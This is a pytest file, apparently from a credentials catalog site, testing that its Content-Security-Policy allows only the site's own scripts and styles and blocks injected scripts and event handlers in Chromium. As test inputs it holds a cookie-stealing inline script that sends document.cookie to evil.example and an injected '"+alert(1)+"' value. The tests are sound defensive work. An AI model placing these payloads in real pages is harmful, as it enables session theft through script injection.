"""The Content-Security-Policy: the site's own scripts and styles only, in real Chromium."""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path

import material
import pytest

from microcred.csp import add_policy, policy_for

from audit_pages import AUDITED, CATALOG_RENDERED, open_page

# Every kind of page, and the catalog searching (Pagefind compiles WebAssembly).
PAGE_TYPES = {
    **AUDITED,
    "catalog searched": ("catalog/?q=rubric", CATALOG_RENDERED),
    "pathways": ("pathways/", None),
    "issuers": ("issuers/", None),
    "about": ("about/", None),
    "contributing": ("contributing/", None),
    "404": ("404.html", None),
}
# Installed before any page script runs, so no violation is missed.
RECORD_VIOLATIONS = """window.__violations = [];
document.addEventListener('securitypolicyviolation', e =>
  window.__violations.push(`${e.effectiveDirective} blocked ${e.blockedURI || 'inline'} at ${e.sourceFile}:${e.lineNumber} ${e.sample}`));"""
META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


def _policy(rich_site, page_file: str) -> dict[str, set[str]]:
    text = (rich_site / page_file).read_text(encoding="utf-8")
    directives = (d.split() for d in META.search(text)[1].split(";"))
    return {name: set(values) for name, *values in directives}


@pytest.fixture
def watched(page):
    page.add_init_script(RECORD_VIOLATIONS)
    console = []
    page.on("console", lambda m: console.append(m.text) if "Content Security Policy" in m.text else None)
    page.csp_console = console
    return page


def test_policy_allows_only_the_sites_own_scripts_and_styles(rich_site):
    policy = _policy(rich_site, "credentials/exit-tickets/index.html")
    assert policy["default-src"] == {"'none'"}
    assert {"'self'", "'wasm-unsafe-eval'"} <= policy["script-src"]
    assert all(v in ("'self'", "'wasm-unsafe-eval'") or v.startswith("'sha256-") for v in policy["script-src"])
    assert all(v == "'self'" or v.startswith("'sha256-") for v in policy["style-src"])
    assert policy["img-src"] == {"'self'", "data:"}
    assert policy["object-src"] == policy["base-uri"] == {"'none'"}
    assert policy["form-action"] == {"'self'"}


def test_no_page_allows_unsafe_inline_or_eval(rich_site):
    pages = list(rich_site.rglob("*.html"))
    loose = [str(p.relative_to(rich_site)) for p in pages if re.search(r"'unsafe-(inline|eval|hashes)'", p.read_text(encoding="utf-8"))]
    assert pages and not loose, f"pages with a loose policy: {loose}"


def _hashes(policy: str) -> set[str]:
    return set(re.findall(r"'sha256-[^']+'", policy))


def _sha256(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def theme_scope_script(base_url: str) -> str:
    """The inline script of the installed theme's partials/javascripts/base.html, as written on a page."""
    template = (Path(material.__file__).parent / "templates/partials/javascripts/base.html").read_text(encoding="utf-8")
    (body,) = re.findall(r"<script>(.*?)</script>", template, re.S)
    return re.sub(r"\{\{.*?\}\}", base_url, body)


@pytest.mark.parametrize("base_url", ["..", "../..", ".", "/catalog/"])
def test_policy_hashes_the_themes_inline_script_whatever_the_base_url(base_url):
    script = theme_scope_script(base_url)
    assert _hashes(policy_for(f"<head><script>{script}</script></head>")) == {_sha256(script)}


def test_policy_leaves_an_inline_script_that_is_not_the_themes_unhashed():
    theme = theme_scope_script("..")
    html = f"<head><script>{theme}</script></head><body><script>fetch('https://evil.example/'+document.cookie)</script></body>"
    assert _hashes(policy_for(html)) == {_sha256(theme)}


def test_theme_script_with_code_in_its_base_url_is_not_hashed():
    script = theme_scope_script('"+alert(1)+"')
    assert not _hashes(policy_for(f"<head><script>{script}</script></head>"))


def test_policy_hashes_no_inline_style_or_data_block():
    html = '<head><style>body{background:url(https://evil.example/)}</style><script type="application/ld+json">{}</script><script src="a.js"></script></head>'
    policy = policy_for(html)
    assert not _hashes(policy)
    assert "style-src 'self'" in policy.split("; ")


def test_policy_meta_comes_first_in_head():
    assert add_policy("<head><title>x</title></head>").startswith('<head>\n    <meta http-equiv="Content-Security-Policy"')


def test_every_inline_script_of_the_sample_site_is_allowed_by_its_pages_policy(rich_site):
    blocked = []
    for file in rich_site.rglob("*.html"):
        text = file.read_text(encoding="utf-8")
        allowed = _hashes(META.search(text)[1])
        scripts = re.findall(r"<script>(.*?)</script>", text, re.S)
        blocked += [f"{file.relative_to(rich_site)}: {s[:60]}" for s in scripts if _sha256(s) not in allowed]
    assert not blocked, "inline scripts the policy blocks (a theme upgrade?):\n  " + "\n  ".join(blocked)


@pytest.mark.browser
@pytest.mark.parametrize("name", PAGE_TYPES)
def test_page_runs_without_any_csp_violation(watched, rich_url, name):
    path, ready = PAGE_TYPES[name]
    open_page(watched, rich_url, path, ready)
    watched.wait_for_load_state("networkidle")
    violations = watched.evaluate("window.__violations") + watched.csp_console
    assert not violations, f"{name} page (/{path}):\n  " + "\n  ".join(violations)


@pytest.mark.browser
def test_injected_inline_script_is_blocked(watched, rich_url):
    open_page(watched, rich_url, *AUDITED["credential"])
    ran = watched.evaluate("""() => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.body.append(script);
      return window.__injected === true;
    }""")
    assert not ran
    assert any(v.startswith("script-src-elem blocked inline") for v in watched.evaluate("window.__violations"))


@pytest.mark.browser
def test_injected_event_handler_attribute_is_blocked(watched, rich_url):
    open_page(watched, rich_url, *AUDITED["credential"])
    ran = watched.evaluate("""() => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.__injected = true');
      document.body.append(image);
      image.src = 'data:,broken';
      return new Promise(done => setTimeout(() => done(window.__injected === true), 200));
    }""")
    assert not ran
    assert any(v.startswith("script-src-attr blocked inline") for v in watched.evaluate("window.__violations"))
